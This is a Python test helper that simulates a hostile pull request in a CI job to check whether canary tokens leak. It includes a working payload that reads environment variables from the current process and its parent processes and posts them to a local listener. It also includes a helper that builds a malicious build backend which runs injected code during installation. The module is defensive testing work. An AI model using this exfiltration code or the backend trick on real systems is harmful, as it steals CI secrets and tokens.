"""A hostile pull request's checkout in a job with tokens: the real `./run`, git and uv, and a listener for stolen values.

Nothing comes from the network: the lock has one small package of the test's own.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import os
import shutil
import subprocess
import sys
import tarfile
import threading
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from helpers.workflow_files import ROOT

CANARIES = {
    "FLY_API_TOKEN": "FlyV1 fm2_canary-run-3Kd8q1Zx",
    "SOPS_AGE_KEY": "AGE-SECRET-KEY-CANARY-7WQX2M9T",
}
# Sends all it finds, in its own environment and in those of the processes above it.
THIEF = """
import os, pathlib, urllib.request
stolen, process = repr(dict(os.environ)), os.getppid()
while process > 1:
    stolen += pathlib.Path(f"/proc/{{process}}/environ").read_text()
    process = int(pathlib.Path(f"/proc/{{process}}/status").read_text().split("PPid:")[1].split()[0])
no_proxy = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))
no_proxy.open("{url}", stolen.encode(), timeout=300)
"""


class Listener:
    """The server to which stolen values are sent; it answers any path and method."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        heard = self.heard

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                heard.append(f"{self.requestline}\n{self.headers}\n{body.decode(errors='replace')}")
                self.send_response(200)
                self.end_headers()

            do_GET = do_PUT = do_POST  # noqa: N815 - the names that http.server asks for

            def log_message(self, *_: object) -> None:
                """Log nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.01,))
        self._thread.start()

    @property
    def url(self) -> str:
        """The address that it listens on."""
        return f"http://127.0.0.1:{self._server.server_port}/"

    @property
    def thief(self) -> str:
        """Python code that sends the values that it finds to the listener."""
        return THIEF.format(url=self.url)

    def close(self) -> None:
        """Stop the server."""
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


class HostileCheckout:
    """A checkout with little more than `run`, at the commit of a pull request.

    Args:
        folder: where it keeps its files.
        listener: the server to which hostile code sends what it finds.
        uv: the program.
    """

    def __init__(self, folder: Path, listener: Listener, uv: Path) -> None:
        self.folder, self.listener = folder, listener
        self.root = folder / "checkout"
        self.temp = folder / "temp"
        self.wheels = folder / "index"
        for made in (self.root, self.temp, self.wheels, folder / "home"):
            made.mkdir(parents=True)
        self.environ = {
            **CANARIES,
            "PATH": os.pathsep.join([str(uv.parent), "/usr/local/bin", "/usr/bin", "/bin"]),
            "PYTHON": sys.executable,
            "HOME": str(folder / "home"),
            "GIT_CONFIG_NOSYSTEM": "1",
            # The index of the owners.
            "UV_OFFLINE": "1",
            "UV_FIND_LINKS": str(self.wheels),
            "UV_CACHE_DIR": str(folder / "cache"),
        }
        self._said: list[str] = []
        files = [wheel(self.wheels, "victim", "victim.py", "SAID = 'ours'\n"), sdist(self.wheels)]
        hashes = (hashlib.sha256(file.read_bytes()).hexdigest() for file in files)
        lock = "victim==1.0 " + " ".join(f"--hash=sha256:{found}" for found in hashes) + "\n"
        for name in ("run", ".gitignore"):
            shutil.copy2(ROOT / name, self.root / name)
        self.write("requirements/roost.txt", lock)
        self.write("scripts/roost/__init__.py", "")
        self.write("scripts/roost/__main__.py", "import victim\nprint(victim.SAID)\n")
        self.git("init", "-q")
        self.commit()

    def write(self, path: str, text: str) -> Path:
        """Write a file of the pull request."""
        file = self.root / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)
        return file

    def git(self, *arguments: str) -> None:
        """Run git in the checkout, as its author."""
        who = ("-c", "user.name=Mallory", "-c", "user.email=mallory@example.test")
        subprocess.run(["git", "-C", self.root, *who, *arguments], check=True, capture_output=True)

    def commit(self) -> None:
        """Commit all files, also ignored ones."""
        self.git("add", "--all", "--force")
        self.git("commit", "-q", "--allow-empty", "-m", "Only a small clean-up")

    def run(self, *arguments: str, **environ: str) -> subprocess.CompletedProcess[str]:
        """Call the real `./run` in the checkout, as a step of a job does."""
        return self.call([str(self.root / "run"), *arguments], **environ)

    def call(self, command: list[str], **environ: str) -> subprocess.CompletedProcess[str]:
        """Run a program in the checkout, with the tokens in its environment."""
        done = subprocess.run(
            command,
            cwd=self.root,
            env={**self.environ, **environ},
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=300,
            check=False,
        )
        self._said += [done.stdout, done.stderr]
        return done

    def stolen(self) -> list[str]:
        """Where a canary was found, as it is or encoded: in output, in requests, or in files."""
        told = {"said": "".join(self._said), "sent": "".join(self.listener.heard)}
        files = (p for p in self.folder.rglob("*") if p.is_file() and not p.is_symlink())
        told |= {str(file): file.read_bytes().decode("latin-1") for file in files}
        return [where for where, text in told.items() if any(c in text for c in spellings())]


def spellings() -> list[str]:
    """Every canary, as it is and encoded."""
    plain = [*CANARIES.values()]
    return [
        *plain,
        *(base64.b64encode(c.encode()).decode() for c in plain),
        *(c[::-1] for c in plain),
    ]


def wheel(folder: Path, name: str, file: str, text: str) -> Path:
    """Write a wheel of one file."""
    about = f"{name}-1.0.dist-info"
    path = folder / f"{name}-1.0-py3-none-any.whl"
    files = {
        file: text,
        f"{about}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        f"{about}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(f"{part},,\n" for part in (*files, f"{about}/RECORD"))
    with zipfile.ZipFile(path, "w") as archive:
        for part, content in {**files, f"{about}/RECORD": record}.items():
            archive.writestr(part, content)
    return path


def sdist(folder: Path) -> Path:
    """Write the source of the locked package, whose build backend is in no lock."""
    files = {
        "PKG-INFO": "Metadata-Version: 2.1\nName: victim\nVersion: 1.0\n",
        "pyproject.toml": '[build-system]\nrequires = ["backend"]\nbuild-backend = "backend"\n'
        '[project]\nname = "victim"\nversion = "1.0"\n',
        "victim.py": "SAID = 'ours'\n",
    }
    path = folder / "victim-1.0.tar.gz"
    with (
        gzip.GzipFile(path, "wb", mtime=0) as zipped,
        tarfile.open(fileobj=zipped, mode="w") as tar,
    ):
        for name, text in files.items():
            member = tarfile.TarInfo(f"victim-1.0/{name}")
            member.size = len(text)
            tar.addfile(member, io.BytesIO(text.encode()))
    return path


def backend(folder: Path, code: str) -> Path:
    """Write a build backend that runs this code and then builds a valid wheel."""
    folder.mkdir(parents=True)
    made = wheel(folder, "victim", "victim.py", "SAID = 'theirs'\n")
    built = base64.b64encode(made.read_bytes()).decode()
    made.unlink()
    text = (
        f"import base64, pathlib\nexec({code!r})\n"
        "def build_wheel(folder, *_, **__):\n"
        f"    name = {made.name!r}\n"
        f"    pathlib.Path(folder, name).write_bytes(base64.b64decode({built!r}))\n"
        "    return name\n"
    )
    return wheel(folder, "backend", "backend.py", text)
